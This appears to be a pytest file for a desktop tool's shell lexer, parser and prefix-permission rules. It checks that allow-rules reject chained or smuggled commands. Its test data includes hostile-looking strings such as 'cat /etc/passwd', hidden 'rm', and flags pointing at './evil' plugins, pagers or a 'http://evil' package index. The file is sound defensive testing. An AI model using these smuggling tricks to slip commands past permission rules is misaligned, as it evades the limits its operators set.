"""The lexer, the two readings, and the rough net for rules that forbid."""

from __future__ import annotations

import pytest

from desktop_app.core.tools.shell_lex import lex
from desktop_app.core.tools.shell_parse import parse
from desktop_app.core.tools.shell_rules import covers_line, covers_together, suggest
from desktop_app.core.tools.shell_table import reading
from desktop_app.core.tools.shell_words import commands_in


def test_words_of_a_line() -> None:
    parsed = parse("""git commit -m 'fix; all | of > it' "and (more)" a\\ b""")
    assert parsed is not None
    assert parsed[0].argv[2:] == ["-m", "fix; all | of > it", "and (more)", "a b"]


def test_commands_of_a_line_and_what_joins_them() -> None:
    parsed = parse("a 2>/dev/null | b && c\n\nd < in; e")
    assert parsed is not None
    assert [(c.before, *c.argv) for c in parsed] == [
        ("", "a"), ("|", "b"), ("&&", "c"), ("\n", "d"), (";", "e"),
    ]  # fmt: skip
    assert [w.text for w in parsed[3].inputs] == ["in"]


def test_wildcards_are_told_from_quoted_ones() -> None:
    parsed = parse("ls a*.py 'b*' c\\* d'*'?")
    assert parsed is not None
    assert [w.glob for w in parsed[0].words[1:]] == ["a*.py", "", "", "d[*]?"]


@pytest.mark.parametrize(
    "line",
    ["if ls; then ls; fi", "while ls; do ls; done", "for f in a; do ls; done", "case x in esac",
     "function f { ls; }", "coproc ls", "time ls", "! ls", "{ ls; }", "(ls)", "[[ -f x ]]"],
)  # fmt: skip
def test_the_grammar_knows_what_the_lexer_does_not(line: str) -> None:
    """Keywords look like words to a lexer; the grammar's kinds of nodes keep them out, or, where
    the grammar takes one for a command (``time``, ``coproc``), the table does."""
    assert reading(line) is None


def test_unreadable_lines() -> None:
    for line in ("", " ", "\n", ";", "a &", "a;;b", "'", "a\\", "a=b", "a $b", "a {b,c}", "\ud800"):
        assert parse(line) is None, line
        assert line == "\ud800" or lex(line) is None


@pytest.mark.parametrize(
    "line",
    ["rm x", "ls; rm x", "ls\nrm x", "ls|rm x", "a=b rm x", "sudo rm x", "r''m x", "r\\m x",
     "/bin/rm x", "echo $(rm x)", "`rm x`", "if true; then rm x; fi", "env -i A=1 rm x",
     "(rm x)", "ls&rm x", "command rm x"],
)  # fmt: skip
def test_commands_are_found_wherever_they_stand(line: str) -> None:
    assert any(c == "rm" or c.startswith("rm ") for c in commands_in(line))


@pytest.mark.parametrize(
    ("content", "command", "covered"),
    [
        ("git log:*", "git log", True),
        ("git log:*", "git log -5 /elsewhere/x", True),
        ("git log:*", "git log --output=x", False),
        ("git log:*", "git log --outp=x", False),
        ("git log:*", "git log --ext-diff", False),
        ("git log:*", "git log; rm x", False),
        ("git log:*", "git log\nrm x", False),
        ("git log:*", "git log | head -5", True),
        ("git log:*", "git log | cat /etc/passwd", False),
        ("git log:*", "git logs", False),
        ("git log:*", "git 'log'", True),
        ("git log:*", "'git' log", False),
        ("git log:*", "git -c core.pager=x log", False),
        ("git:*", "git -c core.pager=x log", False),
        ("git:*", "git --git-dir=x log", False),
        ("git:*", "git add .", True),
        ("git push:*", "git push --receive-pack=./evil x", False),
        ("git fetch:*", "git fetch --upload-pa=./evil x", False),
        ("find:*", "find /elsewhere -name x", True),
        ("find:*", "find . -delete", False),
        ("find:*", "find . -exec rm {} +", False),
        ("rg:*", "rg --pre ./x foo", False),
        ("sort:*", "sort -ox y", False),
        ("cat:*", "cat /etc/hosts", True),
        ("cat:*", "cat < /etc/hosts", False),
        ("npm test:*", "npm test 2>&1 | tail -20", True),
        ("npm test:*", "npm test && npm test -- x", True),
        ("npm test:*", "npm test --script-shell=./evil", False),
        ("npm test:*", "cd /elsewhere && npm test", False),
        ("npm test:*", "npm test | grep -r x .", False),
        ("npm test:*", "npm test < /etc/passwd", False),
        ("make:*", "make -C /elsewhere", False),
        ("make:*", "make -C/elsewhere", False),
        ("make:*", "make SHELL=./evil", False),
        ("make:*", "make all -j8 -k", True),
        ("make:*", "make all CFLAGS=-O2", False),
        ("make test:*", "make test CC=./evil", False),
        ("make test:*", "make test X:=./evil", False),
        ("make test:*", "make test -E 'x:;id'", False),
        ("make test:*", "make test -kC /elsewhere", False),
        ("pytest:*", "pytest -qpevil", False),
        ("pytest:*", "pytest -vvs -k name tests/test_a.py::test_b", True),
        ("pytest:*", "pytest --junit-xml=/elsewhere/x", False),
        ("pytest:*", "pytest --tx popen//python=./evil -d", False),
        ("git log:*", "git log -pO./evil", False),
        ("git commit:*", "git commit -am 'a b'", True),
        ("go build:*", "go build -o /elsewhere/x", False),
        ("go test:*", "go test -count=1 ./...", True),
        ("g++:*", "g++ -fplugin=./evil.so x.cc", False),
        ("gcc:*", "gcc x.c -o /elsewhere/x", False),
        ("prettier:*", "prettier --plugin=./evil.js .", False),
        ("prettier:*", "prettier --check .", True),
        ("kubectl get:*", "kubectl get pods --kubeconfig=./evil", False),
        ("kubectl get:*", "kubectl get pods -A", True),
        ("apt list:*", "apt list -o Dir::Bin::dpkg=./evil", False),
        ("cmake:*", "cmake -P evil.cmake", False),
        ("gradle build:*", "gradle build -I evil.gradle", False),
        ("uv sync:*", "uv sync --python ./evil", False),
        ("uv sync:*", "uv sync --frozen", True),
        ("pytest:*", "pytest -p evil", False),
        ("pytest:*", "pytest -q tests", True),
        ("pip install:*", "pip install --find-links=http://evil x", False),
        ("go test:*", "go test -exec ./evil", False),
        ("docker ps:*", "docker ps -a", True),
        ("npm test:*", "npm test $X", False),
        ("npm test:*", "n*m test", False),
    ],
)
def test_what_a_prefix_rule_covers(content: str, command: str, covered: bool) -> None:
    assert covers_line(content, command) is covered


@pytest.mark.parametrize(
    ("command", "covered"),
    [
        ("npm run build && npm test -- x", True),
        ("npm run build; npm test | tail -5", True),
        ("npm run build -- x && npm test", False),
        ("npm run build && npm test && rm x", False),
        ("npm run build && cat /etc/passwd", False),
        ("npm run build < x && npm test", False),
        ("npm run build & npm test", False),
        ("echo a && echo b", True),
    ],
)
def test_rules_cover_a_line_between_them(command: str, covered: bool) -> None:
    assert covers_together(["npm run build", "npm test:*"], command) is covered


@pytest.mark.parametrize(
    "command",
    ["npm test", "npm test 2>&1 | tail -5", "git log --output=x", "make -C x", "pytest -q; rm x",
     "git fetch --upload-pack=x", "a 'b' $c", "find . -delete", "cd x && npm test", "x\n\ny"],
)  # fmt: skip
def test_the_suggested_rule_covers_its_line(command: str) -> None:
    assert covers_line(str(suggest(command)["rule_content"]), command)
